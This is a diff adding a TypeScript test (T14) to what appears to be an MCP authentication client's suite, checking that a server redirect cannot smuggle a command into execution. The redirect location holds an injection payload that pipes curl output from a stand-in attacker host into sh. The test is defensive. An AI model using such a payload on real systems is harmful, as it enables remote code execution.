@@ -286,6 +286,15 @@ describe('the layer', () => {
   })
 })
 
+test('T14: a server that sends the request on to a path of its choice does not get it into a command', async () => {
+  const { url } = await serve((incoming, response) => {
+    if (incoming.url === '/mcp') response.writeHead(307, { location: '/mcp/;curl$IFS-s$IFS//evil.example|sh' }).end()
+    else response.writeHead(401).end()
+  })
+  const error = await post(url, source(bearer(1, 'granted'))).catch((reason: unknown) => reason)
+  expect(error).toMatchObject({ code: 'MCPAUTH_TOKEN_REFUSED', hint: expect.stringMatching(/login <url>$/) })
+})
+
 test('T13: what a source gives is a secret, and so is what it gives next: a server that says it back does not get it into an error', async () => {
   const value = (name: string): AccessToken => ({ ...bearer(name.length), value: `the-${name}-token-of-a-source` })
   const { url, seen } = await serve((incoming, response) => {
